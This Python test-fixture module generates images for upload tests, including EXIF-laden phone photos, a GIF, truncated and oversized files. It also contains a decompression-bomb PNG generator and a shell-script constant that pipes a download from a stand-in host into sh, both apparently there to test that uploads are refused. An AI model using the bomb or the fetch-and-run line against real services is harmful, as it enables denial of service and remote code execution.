"""Images the tests upload: a phone photo with GPS, an animated gif, and the files that must be refused."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

CAMERA = "SecretPhone 15"
PLACE = (37.0, 33.0, 12.0)  # degrees, minutes, seconds north


def phone_photo(width: int = 64, height: int = 48) -> bytes:
    """A jpeg as phones write them: camera make and GPS position in EXIF, turned by its orientation tag."""
    exif = Image.Exif()
    exif[0x010F] = CAMERA  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show it upright
    exif[0x8825] = {1: "N", 2: PLACE, 3: "E", 4: (126.0, 58.0, 0.0)}  # GPSInfo
    return _encoded(Image.new("RGB", (width, height), (200, 30, 30)), "JPEG", exif=exif, comment=b"taken at home")


def annotated_png() -> bytes:
    """A png with an author text chunk and EXIF."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Kim Minsu")
    exif = Image.Exif()
    exif[0x010F] = CAMERA
    return _encoded(Image.new("RGBA", (32, 32), (0, 0, 255, 128)), "PNG", pnginfo=text, exif=exif)


def plain_png(width: int = 24, height: int = 24) -> bytes:
    """A screenshot-like png."""
    return _encoded(Image.new("RGB", (width, height), (10, 200, 10)), "PNG")


def animated_gif(durations: tuple[int, ...] = (100, 200, 300)) -> bytes:
    """Frames of different colours, each with its own delay, looping, with a comment."""
    frames = [Image.new("RGB", (30, 20), (60 * n, 255 - 60 * n, 0)) for n in range(len(durations))]
    out = io.BytesIO()
    frames[0].save(
        out, "GIF", save_all=True, append_images=frames[1:], duration=list(durations), loop=0, comment=b"made by me"
    )
    return out.getvalue()


def decompression_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid black-and-white png of some kilobytes that would decode to ``width`` × ``height`` pixels
    (400 million by default), written row by row so that making it costs no memory."""
    squeeze = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)  # filter byte, then one bit a pixel
    data = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def truncated_jpeg() -> bytes:
    """The first half of a photo."""
    photo = _encoded(Image.effect_noise((128, 128), 64).convert("RGB"), "JPEG")
    return photo[: len(photo) // 2]


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def too_large() -> bytes:
    """A real png just over 3 MB (noise does not compress)."""
    side = 1040
    return _encoded(Image.effect_noise((side, side), 128).convert("RGB"), "PNG", compress_level=0)


def _encoded(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()
